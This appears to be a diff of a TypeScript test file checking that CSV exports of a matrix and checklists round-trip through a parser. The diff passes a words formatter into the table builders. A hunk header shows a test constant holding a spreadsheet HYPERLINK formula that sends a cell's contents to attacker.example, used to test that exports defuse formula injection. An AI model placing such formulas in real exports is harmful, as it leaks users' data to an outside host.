@@ -1,14 +1,14 @@
 /** The CSV downloads round-trip through a parser: what a spreadsheet reads is what the generator meant. */
 import { describe, expect, it } from 'vitest';
 import { csvResponse, parseCsv, toCsv, CSV_BOM } from '../../src/lib/csv.ts';
-import { buildMatrix, cellText, matrixColumns, matrixRows, matrixTable } from '../../src/lib/matrix.ts';
+import { buildMatrix, cellWords, matrixColumns, matrixRows, matrixTable } from '../../src/lib/matrix.ts';
 import { buildChecklists, checklistTable, CHECKLIST_CSV_HEADER, sourceKey } from '../../src/lib/checklists.ts';
 import { fixtureModel, realModel } from '../fixtures/generated/model.ts';
 import { wordsFormatter } from '../../src/i18n/words.ts';
 import { roleName } from '../../src/lib/titles.ts';
 import type { Model } from '../../src/lib/model.ts';
 
-const sayIn = (model: Model) => wordsFormatter('en', (id) => roleName(model, id));
+const sayIn = (model: Model) => wordsFormatter('en', (id) => roleName(model, id, 'en'));
 import { basisCell } from '../../src/lib/basis.ts';
 import { asSourceText } from '../../src/lib/text.ts';
 
@@ -75,7 +75,7 @@ const MULTILINE_FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,\n"evide
 describe('every CSV export defuses a multi-line formula in any cell', () => {
   const model = realModel();
   const exports: [string, string[][]][] = [
-    ['matrix.csv', matrixTable(buildMatrix(model))],
+    ['matrix.csv', matrixTable(buildMatrix(model), sayIn(model), 'en')],
     ...buildChecklists(model).map(
       (c) => [`checklists/${c.id}.csv`, checklistTable(c, sayIn(model))] as [string, string[][]],
     ),
@@ -94,14 +94,19 @@ describe('the matrix CSV', () => {
     ['real content', realModel],
   ] as const) {
     it(`round-trips for the ${name}, and every cell reads back to its grant and basis`, () => {
-      const matrix = buildMatrix(load());
-      const table = matrixTable(matrix);
+      const model = load();
+      const matrix = buildMatrix(model);
+      const say = sayIn(model);
+      const table = matrixTable(matrix, say, 'en');
       const parsed = parseCsv(toCsv(table));
       expect(parsed).toEqual(table);
       const columns = matrixColumns(matrix);
       for (const [i, row] of matrixRows(matrix).entries()) {
         expect(parsed[i + 1]![0]).toBe(row.id);
-        columns.forEach((c, j) => expect(parsed[i + 1]![4 + j]).toBe(cellText(matrix.cells[row.id]![c.id]!)));
+        columns.forEach((c, j) => {
+          const words = cellWords(matrix.cells[row.id]![c.id]!);
+          expect(parsed[i + 1]![4 + j]).toBe(words ? say(words) : '');
+        });
       }
     });
   }
